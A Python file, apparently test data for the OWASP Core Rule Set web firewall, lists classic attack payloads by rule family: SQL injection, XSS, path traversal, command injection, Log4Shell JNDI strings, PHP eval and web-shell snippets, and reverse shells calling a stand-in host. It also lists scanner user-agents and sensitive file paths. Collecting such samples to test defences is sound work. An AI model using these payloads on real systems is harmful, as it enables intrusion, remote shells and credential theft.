"""What attacks look like: well-known samples of each kind that the Core Rule Set is about, by the part of it that is to stop them."""

SQL_INJECTION = [
    "1' OR '1'='1",
    "1 OR 1=1--",
    "' UNION SELECT username, password FROM user--",
    "1; DROP TABLE document;--",
    "1' AND SLEEP(5)#",
    "1 AND (SELECT 1 FROM pg_sleep(5))",
    "'; EXEC xp_cmdshell('dir')--",
    "1 UNION ALL SELECT NULL,NULL,version()--",
    "admin' AND 1=(SELECT COUNT(*) FROM sqlite_master)--",
    "1' AND extractvalue(1,concat(0x7e,database()))--",
]
CROSS_SITE_SCRIPTING = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.domain)>",
    "javascript:alert(document.cookie)",
    "<iframe src=javascript:alert(1)></iframe>",
    '"><body onload=alert(1)>',
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>",
]
FILE_INCLUSION = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "/etc/passwd",
    "....//....//etc/passwd",
    "/proc/self/environ",
    "C:\\boot.ini",
    "/var/www/.htpasswd",
]
REMOTE_INCLUSION = ["http://203.0.113.9/shell.txt", "php://filter/resource=x", "http://evil.example/shell.php?"]
COMMANDS = [
    "; cat /etc/passwd",
    "|| ls -la /root",
    "$(whoami)",
    "`uname -a`",
    "; wget http://203.0.113.9/x.sh",
    "& ping -n 3 127.0.0.1",
    "|nc -e /bin/sh 203.0.113.9 4444",
    "() { :; }; /bin/bash -c id",
    "; powershell -enc AAAA",
    "/bin/bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
]
PHP = [
    "<?php phpinfo(); ?>",
    "<?= system($_GET['c']) ?>",
    "$_SERVER['HTTP_X']",
    "base64_decode('eA==');eval($x)",
    'O:8:"stdClass":1:{s:1:"a";i:1;}',
]
JAVA = [
    "${jndi:ldap://203.0.113.9/a}",
    "${${lower:j}ndi:rmi://203.0.113.9/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "%{(#a=@java.lang.Runtime@getRuntime())}",
    "java.lang.ProcessBuilder('id').start()",
]
NODE = ["_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"]
RESPONSE_SPLITTING = ["x\r\nSet-Cookie: a=b", "x\r\nContent-Type: text/html\r\n\r\n<html>"]
SESSION_FIXATION = [".cookie;expires=Thu;domain=example.com", "document.cookie='PHPSESSID=1';"]

KINDS = {
    "SQL injection (942)": SQL_INJECTION,
    "cross-site scripting (941)": CROSS_SITE_SCRIPTING,
    "local files (930)": FILE_INCLUSION,
    "remote files (931)": REMOTE_INCLUSION,
    "commands (932)": COMMANDS,
    "PHP (933)": PHP,
    "Java (944)": JAVA,
    "Node (934)": NODE,
    "response splitting (921)": RESPONSE_SPLITTING,
    "session fixation (943)": SESSION_FIXATION,
}

SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.1.6", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "masscan/1.3"]
FOREIGN_METHODS = ["TRACK", "PROPFIND", "DEBUG", "LOCK"]
PATHS = ["/.git/config", "/.env", "/wp-config.php", "/..%2f..%2fetc%2fpasswd", "/documents/%00", "/web.config", "/.htaccess"]
